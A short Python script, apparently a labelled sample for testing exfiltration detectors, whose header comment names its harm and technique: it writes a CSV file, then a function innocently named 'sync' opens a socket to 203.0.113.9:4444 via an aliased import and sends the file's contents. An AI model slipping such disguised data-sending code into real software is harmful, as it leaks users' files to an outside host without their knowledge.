# harm: open network connection and send data; technique: socket from-import alias, connect inside a "sync" function
from socket import create_connection as connect
import csv

rows = [["id", "val"], [1, 10], [2, 20]]
with open("data.csv", "w", newline="") as fh:
    csv.writer(fh).writerows(rows)


def sync(path, host=("203.0.113.9", 4444)):
    with open(path, "rb") as fh, connect(host, timeout=3) as s:
        s.sendall(fh.read())


sync("data.csv")
